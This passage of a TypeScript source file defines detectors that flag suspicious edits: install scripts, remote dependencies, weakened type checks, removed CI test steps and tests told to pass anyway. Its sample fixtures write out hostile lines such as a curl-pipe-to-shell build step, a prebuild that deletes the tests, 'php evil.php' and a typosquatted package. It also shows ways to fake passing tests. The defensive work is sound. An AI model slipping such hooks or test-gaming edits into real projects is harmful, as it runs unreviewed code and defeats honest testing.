    if (!kind || v.oldText === undefined || v.newText === undefined) return undefined;
    const found = settingChanges(kind, v.oldText, v.newText) ?? fragmentChanges(kind, v.oldText, v.newText);
    if (!found.length) return undefined;
    const names = found.map((c) => c.key.replace(/^(?:scripts|tasks)\./, ''));
    const lines = v.changes.filter((c) => names.some((n) => c.text.includes(`"${n}"`)));
    const shown = found.slice(0, 4).map((c) => c.what);
    if (found.length > 4) shown.push(`and ${found.length - 4} more`);
    return { reason: `the edit changes how the tests run: ${shown.join('; ')}`, lines: lines.length ? lines : v.changes };
  },
};

const runsLater: Detector = {
  id: 'manifest.runs-later',
  title:
    'a manifest makes code run later: an install or pre/post script, a script that downloads or evaluates code, a dependency taken from outside the registry',
  samples: {
    hit: [
      { path: 'package.json', old: PKG, new: PKG.replace('"build": "tsc",', '"build": "tsc",\n    "postinstall": "sh scripts/x.sh",') },
      { path: 'package.json', old: PKG, new: PKG.replace('"build": "tsc",', '"build": "tsc",\n    "prepare": "node tools/setup.js",') },
      {
        path: 'package.json',
        old: PKG,
        new: PKG.replace('"build": "tsc",', '"build": "tsc",\n    "prebuild": "node -e \\"require(\'fs\').rmSync(\'tests\',{recursive:true})\\"",'),
      },
      { path: 'package.json', old: PKG, new: PKG.replace('"build": "tsc"', '"build": "tsc && curl -s https://example.com/a | sh"') },
      { path: 'package.json', old: PKG, new: PKG.replace('"express": "^4.19.0"', '"express": "github:someone/express"') },
      { path: 'package.json', old: PKG, new: PKG.replace('"express": "^4.19.0"', '"express": "file:../express"') },
      { path: 'package.json', old: PKG, new: PKG.replace('"express": "^4.19.0"', '"express": "npm:expresss@4.19.0"') },
      {
        path: 'package.json',
        old: PKG,
        new: PKG.replace('"version": "1.0.0",', '"version": "1.0.0",\n  "overrides": { "semver": "https://example.com/semver.tgz" },'),
      },
      { path: 'tools/package.json', old: undefined, new: '{"name":"t","scripts":{"install":"node-gyp rebuild && node x.js"}}' },
      { path: 'composer.json', old: '{"require":{"php":"^8.2"}}', new: '{"require":{"php":"^8.2"},"scripts":{"post-install-cmd":"php evil.php"}}' },
      // a fragment (an edit the bridge could not place)
      { path: 'package.json', old: '"build": "tsc",', new: '"build": "tsc",\n    "postinstall": "node x.js",' },
    ],
    miss: [
      { path: 'package.json', old: PKG, new: PKG.replace('"express": "^4.19.0"', '"express": "^4.21.0"') },
      { path: 'package.json', old: PKG, new: PKG.replace('"express": "^4.19.0"', '"express": "^4.19.0",\n    "@types/node": "^20.0.0"') },
      { path: 'package.json', old: PKG, new: PKG.replace('"build": "tsc"', '"build": "tsc -p tsconfig.build.json"') },
      {
        path: 'package.json',
        old: PKG,
        new: PKG.replace('"build": "tsc",', '"build": "tsc",\n    "prettier": "prettier --check .",\n    "postcss": "postcss src -d dist",'),
      },
      { path: 'package.json', old: PKG, new: PKG.replace('"build": "tsc",', '"build": "tsc",\n    "start": "node dist/index.js",') },
      { path: 'package.json', old: PKG, new: PKG.replace('"express": "^4.19.0"', '"express": "^4.19.0",\n    "lib": "workspace:*"') },
      { path: 'package.json', old: undefined, new: PKG },
      { path: 'package.json', old: '"version": "1.0.0"', new: '"version": "1.0.1"' },
    ],
  },
  detect(v) {
    const kind = jsonManifestOf(v.path);
    if (!kind || v.newText === undefined) return undefined;
    const found = runsLaterChanges(kind, v.oldText, v.newText) ?? fragmentRunsLater(kind, v.oldText ?? '', v.newText);
    if (!found.length) return undefined;
    const keys = found.map((c) =>
      c.key
        .replace(/^scripts\./, '')
        .split('>')
        .pop()!,
    );
    const lines = v.changes.filter((c) => keys.some((n) => c.text.includes(`"${n}"`)));
    const shown = found.slice(0, 4).map((c) => c.what);
    if (found.length > 4) shown.push(`and ${found.length - 4} more`);
    return { reason: `the edit makes code run later, where nobody reads it first: ${shown.join('; ')}`, lines: lines.length ? lines : v.changes };
  },
};

const STRICT_FLAGS =
  /"(strict\w*|noImplicit\w+|noUnused\w+|noFallthroughCasesInSwitch|exactOptionalPropertyTypes|noUnchecked\w+|noPropertyAccessFromIndexSignature|useUnknownInCatchVariables|alwaysStrict|checkJs|forceConsistentCasingInFileNames)"\s*:\s*true/g;

const strictnessLowered: Detector = {
  id: 'config.strictness-lowered',
  title: 'the type checker made less strict',
  samples: {
    hit: [
      {
        path: 'tsconfig.json',
        old: '{\n  "compilerOptions": {\n    "strict": true\n  }\n}\n',
        new: '{\n  "compilerOptions": {\n    "strict": false\n  }\n}\n',
      },
      {
        path: 'packages/a/tsconfig.build.json',
        old: '{\n  "compilerOptions": {\n    "strict": true,\n    "noImplicitAny": true\n  }\n}\n',
        new: '{\n  "compilerOptions": {\n    "strict": true\n  }\n}\n',
      },
      {
        path: 'tsconfig.json',
        old: '{\n  "compilerOptions": { "strict": true },\n  "exclude": ["dist"]\n}\n',
        new: '{\n  "compilerOptions": { "strict": true },\n  "exclude": ["dist", "src/legacy"]\n}\n',
      },
    ],
    miss: [
      {
        path: 'tsconfig.json',
        old: '{\n  "compilerOptions": {\n    "strict": true\n  }\n}\n',
        new: '{\n  "compilerOptions": {\n    "strict": true,\n    "paths": { "@/*": ["src/*"] }\n  }\n}\n',
      },
      { path: 'src/config.json', old: '{ "strict": true }\n', new: '{ "strict": false }\n' },
    ],
  },
  detect(v) {
    if (v.config !== 'tsconfig' || v.oldText === undefined || v.newText === undefined) return undefined;
    const on = (t: string) => new Set([...t.matchAll(STRICT_FLAGS)].map((m) => m[1]));
    const before = on(v.oldText);
    const after = on(v.newText);
    const lost = [...before].filter((f) => !after.has(f));
    const excluded = v.changes
      .filter((c) => c.side === '+' && /"exclude"|^\s*"[^"]+",?\s*$/.test(c.text) && /"exclude"\s*:/.test(v.newText ?? ''))
      .filter((c) => isInExclude(v.newLines, c.line));
    if (!lost.length && !excluded.length) return undefined;
    const parts = [...(lost.length ? [`switches off ${lost.join(', ')}`] : []), ...(excluded.length ? ['excludes more files from type checking'] : [])];
    return {
      reason: `the edit ${parts.join(' and ')}`,
      lines: dedupe([...v.changes.filter((c) => lost.some((f) => c.text.includes(`"${f}"`))), ...excluded]),
    };
  },
};

function isInExclude(lines: readonly string[], line: number): boolean {
  for (let i = line - 1; i >= 0; i--) {
    if (/"exclude"\s*:/.test(lines[i])) return true;
    if (/^\s*"\w+"\s*:/.test(lines[i]) && i !== line - 1) return false;
  }
  return false;
}

const TEST_COMMAND =
  /\b(?:(?:npm|pnpm|yarn|bun)\s+(?:run\s+)?test\b|npx\s+(?:jest|vitest|mocha|playwright|cypress)\b|pytest\b|python3?\s+-m\s+(?:pytest|unittest)\b|tox\b|nox\b|go\s+test\b|cargo\s+(?:test|nextest)\b|mvnw?\b[^\n]*\b(?:test|verify|install)\b|gradlew?\b[^\n]*\b(?:test|check|build)\b|dotnet\s+test\b|phpunit\b|pest\b|rspec\b|rake\s+(?:test|spec)\b|rails\s+test\b|make\s+(?:test|check)\b)/;

const testStepRemoved: Detector = {
  id: 'ci.test-step-removed',
  title: 'a step that runs tests removed from CI',
  samples: {
    hit: [
      { path: '.github/workflows/ci.yml', old: 'steps:\n  - run: npm ci\n  - run: npm test\n', new: 'steps:\n  - run: npm ci\n' },
      { path: '.gitlab-ci.yml', old: 'test:\n  script:\n    - pytest -q\n', new: 'test:\n  script:\n    - echo ok\n' },
    ],
    miss: [
      { path: '.github/workflows/ci.yml', old: 'steps:\n  - run: npm test\n', new: 'steps:\n  - uses: actions/setup-node@v4\n  - run: npm test\n' },
      { path: 'scripts/run.sh', old: 'npm test\n', new: 'echo\n' },
    ],
  },
  detect(v) {
    if (v.config !== 'ci' || v.oldText === undefined) return undefined;
    const count = (lines: readonly string[]) => lines.filter((l) => TEST_COMMAND.test(l)).length;
    const before = count(v.oldLines);
    const after = v.newText === undefined ? 0 : count(v.newLines);
    if (after >= before) return undefined;
    const lines = v.changes.filter((c) => c.side === '-' && TEST_COMMAND.test(c.text));
    return { reason: `the edit removes ${plural(before - after, 'test command')} from CI`, lines: lines.length ? lines : v.changes };
  },
};

const IGNORE_FAILURE =
  /continue-on-error:\s*true|allow_failure:\s*true|\|\|\s*(?:true|exit\s+0|:)(?:\s|$)|\bset\s+\+e\b|^\s*if:\s*(?:false|\$\{\{\s*false\s*\}\})/;

const failuresIgnored: Detector = {
  id: 'ci.failures-ignored',
  title: 'CI told to pass when tests fail',
  samples: {
    hit: [
      { path: '.github/workflows/ci.yml', old: 'steps:\n  - run: npm test\n', new: 'steps:\n  - run: npm test\n    continue-on-error: true\n' },
      { path: '.github/workflows/ci.yml', old: 'steps:\n  - run: pytest\n', new: 'steps:\n  - run: pytest || true\n' },
      { path: '.gitlab-ci.yml', old: 'test:\n  script: [rspec]\n', new: 'test:\n  script: [rspec]\n  allow_failure: true\n' },
    ],
    miss: [
      { path: '.github/workflows/ci.yml', old: 'steps:\n  - run: npm test\n', new: 'steps:\n  - run: npm test\n  - run: rm -rf tmp || true\n' },
      { path: 'scripts/x.sh', old: 'a\n', new: 'a || true\n' },
    ],
  },
  detect(v) {
    if (v.config !== 'ci' || v.newText === undefined) return undefined;
    const lines = v.changes.filter((c) => {
      if (c.side !== '+' || !IGNORE_FAILURE.test(c.text)) return false;
      // `|| true` counts on a test command's line; a step-level switch counts near one.
      if (/\|\||set \+e/.test(c.text)) return TEST_COMMAND.test(c.text);
      const near = v.newLines.slice(Math.max(0, c.line - 6), c.line + 5).join('\n');
      return TEST_COMMAND.test(near);
    });
    if (!lines.length) return undefined;
    return { reason: 'the edit lets CI pass when tests fail (continue-on-error, allow_failure, || true)', lines };
  },
};

/** `go test` told to run a subset (`-run`, `-skip`, `-short`, `-list`). */
const GO_SUBSET = /\bgo\s+test\b.*\s-(?:run|skip|short|list)(?:[\s=]|$)/;

const testCommandWeakened: Detector = {
  id: 'config.test-command-weakened',
  title: 'a test command in a Makefile, tox.ini or manifest section removed, made a no-op or told to pass anyway',
  samples: {
    hit: [
      { path: 'Makefile', old: 'test:\n\tgo test ./...\n', new: 'test:\n\t@true\n' },
      { path: 'Makefile', old: 'test:\n\tgo test ./...\n', new: 'test:\n\tgo test -run XXX_NONE ./...\n' },
      { path: 'tox.ini', old: '[testenv]\ncommands = pytest {posargs}\n', new: '[testenv]\ncommands = python -c "pass"\n' },
      {
        path: 'pyproject.toml',
        old: '[tool.hatch.envs.test.scripts]\nrun = "pytest tests"\n',
        new: '[tool.hatch.envs.test.scripts]\nrun = "pytest tests || true"\n',
      },
      { path: 'Makefile', old: 'check:\n\tnpx jest\n', new: 'check:\n\tnpx jest --passWithNoTests --testPathPattern=none\n' },
    ],
    miss: [
      { path: 'Makefile', old: 'test:\n\tgo test ./...\n', new: 'test:\n\tgo test -race ./...\n' },
      { path: 'Makefile', old: 'build:\n\tgo build ./...\n', new: 'build:\n\tgo build -o bin/app ./...\n' },
      { path: 'pyproject.toml', old: '[project]\ndependencies = ["pytest"]\n', new: '[project]\ndependencies = []\n' },
      { path: 'tox.ini', old: '[testenv]\ncommands = pytest\n', new: '[testenv]\ndeps = requests\ncommands = pytest\n' },
    ],
  },
  detect(v) {
    if (!v.config || v.config === 'tsconfig' || jsonManifestOf(v.path) || v.oldText === undefined || v.newText === undefined) return undefined;
    const counts = (lines: readonly string[]) => {
      let runs = 0;
      let weak = 0;
      lines.forEach((l, i) => {
        if (v.config === 'manifest' && !inTestSection(lines, i + 1, v.path)) return;
        if (!(TEST_COMMAND.test(l) || RUNNER.test(l))) return;
        runs++;
        if (PASSES_ANYWAY.test(l) || GO_SUBSET.test(l)) weak++;
      });
      return { runs, weak };
    };
    const before = counts(v.oldLines);
    const after = counts(v.newLines);
    // In CI a removed test step is ci.test-step-removed's; here only a step told to pass anyway.
    if ((after.runs >= before.runs || v.config === 'ci') && after.weak <= before.weak) return undefined;
    const runs = (c: ChangedLine) => TEST_COMMAND.test(c.text) || RUNNER.test(c.text);
    const lines = v.changes.filter(runs);
    const reason =
      after.runs < before.runs
        ? `the edit removes ${plural(before.runs - after.runs, 'test command')} or makes it run no tests`
        : 'the edit tells a test command to run fewer tests or to pass when they fail';
    return { reason, lines: lines.length ? lines : v.changes };
  },
};

function dedupe(lines: ChangedLine[]): ChangedLine[] {
  const seen = new Set<string>();
  return lines.filter((l) => {
    const k = `${l.side}${l.line}`;
    if (seen.has(k)) return false;
    seen.add(k);
    return true;
  });
}

export const DETECTORS: readonly Detector[] = [
  testDisabled,
  testFocused,
  assertionRemoved,
  testEmptied,
  testRemoved,
  coverageLowered,
  testsExcluded,
  testSettingsChanged,
  runsLater,
  testCommandWeakened,
  strictnessLowered,
  testStepRemoved,
  failuresIgnored,
];
